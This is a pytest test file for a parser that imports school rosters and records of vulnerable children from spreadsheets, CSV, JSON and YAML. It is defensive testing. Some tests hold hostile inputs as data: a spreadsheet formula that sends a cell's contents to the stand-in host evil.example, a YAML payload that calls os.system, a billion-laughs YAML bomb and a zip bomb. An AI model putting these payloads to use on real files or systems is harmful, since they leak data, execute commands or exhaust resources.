"""Rosters (.xlsx / .csv) and record files (.json / .yaml): good rows kept, bad rows reported."""

from __future__ import annotations

import io
import json
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from guanai.base.errors import InputError
from guanai.care.model import RecordError
from guanai.care.roster import (
    COLUMNS,
    EXAMPLE_MARK,
    REQUIRED_HEADERS,
    Roster,
    parse_record_bytes,
    parse_roster,
    read_record_bytes,
    record_to_row,
    records_from_data,
    roster_csv_bytes,
    roster_xlsx_bytes,
)
from guanai.care.synth import example_dict, example_record, synth_children


def read_roster(path: Path) -> Roster:
    """The CLI's way: the file's bytes and its name."""
    return parse_roster(Path(path).read_bytes(), Path(path).name)


HEADERS = [h for h, _ in COLUMNS]


def col(header: str) -> int:
    return HEADERS.index(header) + 1


def write_xlsx(path: Path, rows: list[list[object]], headers: list[str] | None = None) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(headers or HEADERS)
    for r in rows:
        ws.append(r)
    wb.save(path)
    return path


def test_xlsx_round_trip_every_field(tmp_path: Path) -> None:
    recs = synth_children(25, seed=4) + [example_record().model_copy(update={"student_id": "G341322201403050219"})]
    path = tmp_path / "花名册.xlsx"
    path.write_bytes(roster_xlsx_bytes(recs))
    roster = read_roster(path)
    assert roster.errors == []
    assert [r for _, r in roster.records] == recs
    assert [n for n, _ in roster.records] == list(range(2, 28))


def test_bad_rows_reported_good_rows_kept(tmp_path: Path) -> None:
    recs = synth_children(8, seed=9)
    rows = [record_to_row(r) for r in recs]
    rows[1][col("身份证号") - 1] = rows[1][col("身份证号") - 1][:-1] + ("0" if rows[1][col("身份证号") - 1][-1] != "0" else "1")
    rows[3][col("姓名") - 1] = ""
    rows[4][col("父亲状况") - 1] = "出差"
    rows[5][col("学籍号") - 1] = rows[0][col("学籍号") - 1]
    rows[5][col("身份证号") - 1] = rows[0][col("身份证号") - 1]
    rows[5][col("出生日期") - 1] = ""
    rows[5][col("性别") - 1] = rows[0][col("性别") - 1]
    path = write_xlsx(tmp_path / "r.xlsx", rows)
    roster = read_roster(path)
    by_row = {e.row: e.message for e in roster.errors}
    assert set(by_row) == {3, 5, 6, 7}
    assert "身份证号：校验码错误" in by_row[3]
    assert by_row[5] == "姓名：必须填写"
    assert "父亲.状况：取值“出差”无效" in by_row[6]
    assert by_row[7] == "与第2行重复（学籍号相同）"
    assert [n for n, _ in roster.records] == [2, 4, 8, 9]
    assert [r for _, r in roster.records] == [recs[0], recs[2], recs[6], recs[7]]


def test_numeric_id_cell_refused_with_hint(tmp_path: Path) -> None:
    row = record_to_row(synth_children(1, seed=2)[0])
    row[col("身份证号") - 1] = float(row[col("身份证号") - 1][:17] + "0")
    roster = read_roster(write_xlsx(tmp_path / "n.xlsx", [row]))
    assert len(roster.errors) == 1
    assert "身份证号：单元格为数字格式，18位号码已丢失精度" in roster.errors[0].message


def test_phone_as_number_and_dates_as_dates(tmp_path: Path) -> None:
    import datetime as dt

    rec = synth_children(1, seed=2)[0]
    row = record_to_row(rec)
    row[col("父亲电话") - 1] = 13805571234
    row[col("出生日期") - 1] = dt.datetime.combine(rec.birth_date or dt.date.today(), dt.time())
    row[col("班级") - 1] = 3
    roster = read_roster(write_xlsx(tmp_path / "p.xlsx", [row]))
    assert roster.errors == []
    got = roster.records[0][1]
    assert got.father is not None and got.father.phone == "13805571234"
    assert got.class_name == "3"


def test_minimal_headers_and_aliases(tmp_path: Path) -> None:
    headers = ["序号", "学生姓名", "性别", "民族", "公民身份号码", "全国学籍号", "学校", "年级", "班级", "户口所在地",
               "现住址", "困境类型", "父亲情况", "母亲情况"]
    rec = example_record()
    row = [1, rec.name, "男", "汉", rec.id_number, rec.student_id, rec.school, rec.grade, "2班", "萧县龙城镇",
           "东王庄村", "低保、重病", "外出务工（上海）", "在家"]
    roster = read_roster(write_xlsx(tmp_path / "a.xlsx", [row], headers))
    assert roster.errors == []
    got = roster.records[0][1]
    assert got.ethnicity == "汉族" and got.hardship == ["低保家庭", "重病"]
    assert got.father is not None and got.father.workplace == "上海"
    assert got.household_address == "萧县龙城镇"


def test_missing_essential_headers_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError) as exc:
        read_roster(write_xlsx(tmp_path / "h.xlsx", [], ["姓名", "学籍号", "班级"]))
    assert "表头缺少必备列：学校、年级" in exc.value.message
    assert exc.value.hint is not None and "父亲状况" in exc.value.hint


def test_missing_recommended_headers_are_a_warning(tmp_path: Path) -> None:
    rec = synth_children(1, seed=8)[0]
    roster = read_roster(write_xlsx(tmp_path / "h.xlsx", [[rec.name, rec.student_id, rec.school, rec.grade]],
                                    ["姓名", "学籍号", "学校", "年级"]))
    assert roster.errors == [] and roster.records[0][1].student_id == rec.student_id
    assert roster.missing_columns == [h for h in REQUIRED_HEADERS if h not in ("姓名", "学籍号", "学校", "年级")]


def test_xueji_export_as_saved_by_excel(tmp_path: Path) -> None:
    """A 学籍系统 export: merged title row, its own header names, no 学校 column, full-width digits,
    a date cell, a class number stored as a number, 就读方式 住校 / 走读."""
    import datetime as dt

    recs = synth_children(3, seed=21)
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["学生基本信息（导出时间：2026年9月3日）"])
    ws.merge_cells("A1:J1")
    ws.append(["序号", "姓名", "性别", "出生日期", "民族", "身份证件号", "全国学籍号", "所在年级", "班级名称",
               "户口所在地", "现住址", "就读方式"])
    full = str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")
    for i, r in enumerate(recs, start=1):
        assert r.id_number is not None and r.birth_date is not None
        ws.append([i, r.name, "男性" if r.gender == "男" else "女性", dt.datetime.combine(r.birth_date, dt.time()),
                   (r.ethnicity or "汉族").removesuffix("族"), r.id_number.translate(full) if i == 2 else r.id_number,
                   "\t" + r.student_id, r.grade, i, "安徽省萧县", "某村", "住校" if i == 1 else "走读"])
    path = tmp_path / "学籍导出.xlsx"
    wb.save(path)
    roster = parse_roster(path.read_bytes(), path.name, defaults={"学校": "萧县龙城镇中心小学"})
    assert roster.errors == []
    got = [r for _, r in roster.records]
    assert [r.id_number for r in got] == [r.id_number for r in recs]  # full-width digits normalised
    assert [r.student_id for r in got] == [r.student_id for r in recs]
    assert [r.school for r in got] == ["萧县龙城镇中心小学"] * 3
    assert [r.class_name for r in got] == ["1", "2", "3"]
    assert [r.boarding for r in got] == [True, False, False]
    assert [r.gender for r in got] == [r.gender for r in recs]
    assert {"困境情形", "父亲状况", "母亲状况"} <= set(roster.missing_columns)
    assert "学校" not in roster.missing_columns


def test_dengjibiao_wordings(tmp_path: Path) -> None:
    """登记表 spellings: 外出打工（城市）, 在家务农, 死亡; dates typed into General cells (serial numbers)."""
    rec = example_record()
    headers = ["姓名", "性别", "民族", "身份证号码", "学籍号", "学校名称", "年级", "班级", "户籍地址", "现居住地址",
               "困境儿童类别", "父亲情况", "父亲外出务工地点", "母亲情况", "出生年月日"]
    assert rec.birth_date is not None
    serial = (rec.birth_date - date(1899, 12, 30)).days
    rows: list[list[object]] = [
        [rec.name, "男", "汉族", rec.id_number, rec.student_id, rec.school, rec.grade, "2班", "萧县", "萧县",
         "", "外出打工（上海）", "", "在家务农", serial],
        [rec.name, "男", "汉族", rec.id_number, rec.student_id.replace("G", "Ｇ"), rec.school, rec.grade, "2班",
         "萧县", "萧县", "", "死亡", "", "外出", ""],
    ]
    roster = read_roster(write_xlsx(tmp_path / "d.xlsx", rows, headers))
    assert [e.row for e in roster.errors] == [3] and "与第2行重复" in roster.errors[0].message
    got = roster.records[0][1]
    assert got.father is not None and (got.father.state, got.father.workplace) == ("外出务工", "上海")
    assert got.mother is not None and got.mother.state == "在家"
    assert got.birth_date == rec.birth_date
    rows[1][4] = "L341322201203050001"  # a different child: 父亲死亡 + 母亲外出 are accepted words
    rows[1][3] = ""
    rows[1][14] = "2012-03-05"
    roster = read_roster(write_xlsx(tmp_path / "d.xlsx", rows, headers))
    assert roster.errors == []
    second = roster.records[1][1]
    assert second.father is not None and second.father.state == "去世"
    assert second.mother is not None and second.mother.state == "外出务工"


def test_scientific_notation_id_in_csv(tmp_path: Path) -> None:
    recs = [r for r in synth_children(10, seed=12) if r.id_number][:2]
    lines = roster_csv_bytes(recs).decode("utf-8-sig").splitlines()
    assert recs[1].id_number is not None
    lines[2] = lines[2].replace("," + recs[1].id_number + ",", ",3.41322E+17,", 1)
    (tmp_path / "s.csv").write_text("\n".join(lines), encoding="gb18030")
    roster = read_roster(tmp_path / "s.csv")
    assert [e.row for e in roster.errors] == [3]
    assert "身份证号：“3.41322E+17”是科学计数法，18位号码已丢失" in roster.errors[0].message
    assert [r for _, r in roster.records] == recs[:1]


def test_no_header_found(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="未找到表头"):
        read_roster(write_xlsx(tmp_path / "x.xlsx", [[str(i)] for i in range(12)], ["甲"]))


def test_template_has_dropdowns_text_columns_and_example(tmp_path: Path) -> None:
    data = roster_xlsx_bytes([], example=example_record())
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb["花名册"]
    assert [c.value for c in ws[1]] == HEADERS
    assert set(REQUIRED_HEADERS) <= set(HEADERS)
    assert ws.cell(row=2, column=col("姓名")).value == "张小明"
    assert ws.cell(row=2, column=col("备注")).value == EXAMPLE_MARK
    assert ws.cell(row=3, column=col("身份证号")).number_format == "@"
    validations = {str(dv.sqref).split(":")[0]: dv.formula1 for dv in ws.data_validations.dataValidation}
    letter = openpyxl.utils.get_column_letter
    assert validations[f"{letter(col('父亲状况'))}2"].startswith("=选项!")
    assert validations[f"{letter(col('性别'))}2"] == "=选项!$A$2:$A$3"
    opts = wb["选项"]
    assert opts.sheet_state == "hidden"
    assert [c.value for c in opts["A"]][1:3] == ["男", "女"]
    # the example row is skipped on import
    path = tmp_path / "t.xlsx"
    path.write_bytes(data)
    roster = read_roster(path)
    assert roster.records == [] and roster.skipped_examples == 1 and roster.errors == []
    # printable (A4 landscape, header on every page), the example row looks like one
    assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize or 0) == 9
    assert ws.print_title_rows == "$1:$1"
    assert ws.cell(row=2, column=1).font.italic
    assert any("学籍系统" in str(c.value) for c in wb["说明"]["A"])
    # a secretary fills a row under the example (typing the ID into the text-formatted cell)
    rec = synth_children(1, seed=30)[0]
    for c, value in enumerate(record_to_row(rec), start=1):
        ws.cell(row=3, column=c, value=value or None)
    wb.save(path)
    roster = read_roster(path)
    assert [r for _, r in roster.records] == [rec] and roster.errors == [] and roster.missing_columns == []


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-8", "gb18030"])
def test_csv_encodings(tmp_path: Path, encoding: str) -> None:
    recs = synth_children(5, seed=12)
    text = roster_csv_bytes(recs).decode("utf-8-sig")
    path = tmp_path / "r.csv"
    path.write_bytes(text.encode(encoding))
    roster = read_roster(path)
    assert roster.errors == []
    assert [r for _, r in roster.records] == recs


def test_csv_bad_rows(tmp_path: Path) -> None:
    recs = synth_children(3, seed=12)
    lines = roster_csv_bytes(recs).decode("utf-8-sig").splitlines()
    lines[2] = lines[2].replace(recs[1].student_id, "G123")
    (tmp_path / "b.csv").write_text("\n".join(lines), encoding="gb18030")
    roster = read_roster(tmp_path / "b.csv")
    assert [e.row for e in roster.errors] == [3]
    assert "学籍号" in roster.errors[0].message
    assert len(roster.records) == 2


@pytest.mark.parametrize(("name", "content", "message"), [
    ("a.xlsx", b"not a zip at all", "不是有效的 Excel"),
    ("a.xlsx", b"PK\x03\x04" + b"\x00" * 50, "不是有效的 Excel"),
    ("a.xls", b"\xd0\xcf\x11\xe0", "旧版 .xls"),
    ("a.pdf", b"%PDF-1.7", "不支持的花名册格式"),
    ("a.csv", b"\x00\x01\x02PK", "空字符"),
    ("a.csv", b"", "文件为空"),
])
def test_malformed_roster_files(tmp_path: Path, name: str, content: bytes, message: str) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(InputError, match=message):
        read_roster(path)


def test_truncated_xlsx(tmp_path: Path) -> None:
    data = roster_xlsx_bytes(synth_children(5, seed=1))
    path = tmp_path / "t.xlsx"
    path.write_bytes(data[: len(data) // 2])
    with pytest.raises(InputError, match="不是有效的 Excel"):
        read_roster(path)


def test_unsupported_zip_version_refused(tmp_path: Path) -> None:
    # found by the fuzz test: zipfile raises NotImplementedError for "zip file version 12.9"
    data = bytearray(roster_xlsx_bytes(synth_children(1, seed=1)))
    central = data.index(b"PK\x01\x02")
    data[central + 6:central + 8] = (129).to_bytes(2, "little")
    path = tmp_path / "v.xlsx"
    path.write_bytes(bytes(data))
    with pytest.raises(InputError, match="不是有效的 Excel"):
        read_roster(path)


def test_zip_bomb_refused(tmp_path: Path) -> None:
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("xl/worksheets/sheet1.xml", b"\x00" * (50 * 1024 * 1024))
    assert path.stat().st_size < 200_000
    with pytest.raises(InputError, match="解压后过大"):
        read_roster(path)


def test_oversized_cell(tmp_path: Path) -> None:
    row = record_to_row(synth_children(1, seed=3)[0])
    row[col("备注") - 1] = "记" * 20_000
    roster = read_roster(write_xlsx(tmp_path / "big.xlsx", [row]))
    assert "备注：单元格内容过长" in roster.errors[0].message


# --- record files ------------------------------------------------------------------------------


def test_json_and_yaml_record_files(tmp_path: Path) -> None:
    import yaml

    data = example_dict()
    (tmp_path / "a.json").write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    (tmp_path / "a.yaml").write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    (tmp_path / "b.yaml").write_bytes(yaml.safe_dump([data], allow_unicode=True).encode("gb18030"))
    for name in ("a.json", "a.yaml", "b.yaml"):
        assert read_record_bytes((tmp_path / name).read_bytes(), name) == [example_record()], name


@pytest.mark.parametrize(("name", "raw", "message"), [
    ("a.json", b'{"\xe5\xa7\x93\xe5\x90\x8d": "x",', "不是有效的 JSON：第1行"),
    ("a.json", '{"姓名": "a", "姓名": "b"}'.encode(), "字段“姓名”重复出现"),
    ("a.json", b"[" * 100_000 + b"]" * 100_000, "嵌套层数过深"),
    ("a.yaml", "姓名: [未闭合".encode(), "不是有效的 YAML"),
    ("a.yaml", b"a: &x [1]\nb: *x\n", "不允许使用 YAML 别名"),
    ("a.yaml", b"\xff\xfe\x00\x00garbage\x81", "不是 UTF-8 或 GB18030 编码的文本"),
    ("a.yaml", "姓名: !!python/object/apply:os.system ['id']".encode(), "不是有效的 YAML"),
    ("a.json", b"{}" + b" " * (3 * 1024 * 1024), "过大"),
])
def test_malformed_record_files(name: str, raw: bytes, message: str) -> None:
    with pytest.raises(InputError, match=message):
        parse_record_bytes(raw, name)


def test_billion_laughs_yaml_refused() -> None:
    lol = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]\n" for i in range(8))
    with pytest.raises(InputError, match="别名"):
        parse_record_bytes(lol.encode(), "lol.yaml")


def test_list_of_records_all_errors_listed() -> None:
    good = example_dict()
    bad = {**good, "姓名": "", "学籍号": "G1"}
    with pytest.raises(RecordError) as exc:
        records_from_data([good, bad, {"foo": 1}], "多条.json")
    text = "\n".join(exc.value.messages)
    assert "第2条：姓名：不能为空" in text and "第2条：学籍号" in text and "第3条：foo：不是已知字段" in text
    with pytest.raises(InputError, match="没有儿童记录"):
        records_from_data([], "空.json")


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_formula_injection_stays_text(tmp_path: Path, kind: str) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
    rec = synth_children(1, seed=8)[0].model_copy(update={"notes": evil, "income_source": "@SUM(1+1)",
                                                          "residence": "+86 村"})
    path = tmp_path / f"r.{kind}"
    path.write_bytes(roster_xlsx_bytes([rec]) if kind == "xlsx" else roster_csv_bytes([rec]))
    if kind == "xlsx":
        ws = openpyxl.load_workbook(path)["花名册"]
        cell = ws.cell(row=2, column=HEADERS.index("备注") + 1)
        assert cell.data_type == "s" and cell.value == evil
    else:
        raw = path.read_bytes().decode("utf-8-sig")
        assert "'=HYPERLINK" in raw and "'@SUM" in raw and "'+86" in raw
    roster = read_roster(path)
    assert roster.errors == []
    got = roster.records[0][1]
    assert (got.notes, got.income_source, got.residence) == (evil, "@SUM(1+1)", "+86 村")


def test_sparse_far_cells_do_not_hang(tmp_path: Path) -> None:
    import time

    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(HEADERS)
    ws.append(record_to_row(synth_children(1, seed=2)[0]))
    ws.cell(row=3, column=16_384, value="远处的单元格")  # column XFD: beyond what is read
    path = tmp_path / "wide.xlsx"
    wb.save(path)
    start = time.perf_counter()
    roster = read_roster(path)
    assert len(roster.records) == 1 and roster.errors == []
    ws.cell(row=1_048_576, column=1, value="最后一行")
    wb.save(path)
    with pytest.raises(InputError, match="行数超过上限"):
        read_roster(path)
    assert time.perf_counter() - start < 30


def test_title_rows_above_header(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["萧县龙城镇中心小学2026年秋季留守儿童花名册"])
    ws.merge_cells("A1:F1")
    ws.append(["填报日期：2026年9月5日"])
    ws.append([f"{h}*" if h == "姓名" else h for h in HEADERS])  # "姓名*" marks a required column
    recs = synth_children(2, seed=14)
    for r in recs:
        ws.append(record_to_row(r))
    path = tmp_path / "titled.xlsx"
    wb.save(path)
    roster = read_roster(path)
    assert roster.errors == []
    assert [(n, r) for n, r in roster.records] == [(4, recs[0]), (5, recs[1])]


def test_openpyxl_warnings_do_not_reach_the_user(tmp_path: Path) -> None:
    # A workbook with a data-validation extension list (as Excel writes) makes openpyxl warn.
    path = tmp_path / "ext.xlsx"
    path.write_bytes(roster_xlsx_bytes(synth_children(2, seed=5)))
    with zipfile.ZipFile(path) as zin:
        items = {i.filename: zin.read(i) for i in zin.infolist()}
    sheet = "xl/worksheets/sheet1.xml"
    ext = (b'<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" '
           b'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
           b'<x14:dataValidations count="0"/></ext></extLst></worksheet>')
    items[sheet] = items[sheet].replace(b"</worksheet>", ext)
    with zipfile.ZipFile(path, "w") as zout:
        for name, data in items.items():
            zout.writestr(name, data)
    roster = read_roster(path)  # filterwarnings=error: any leaked warning fails this test
    assert len(roster.records) == 2 and roster.errors == []
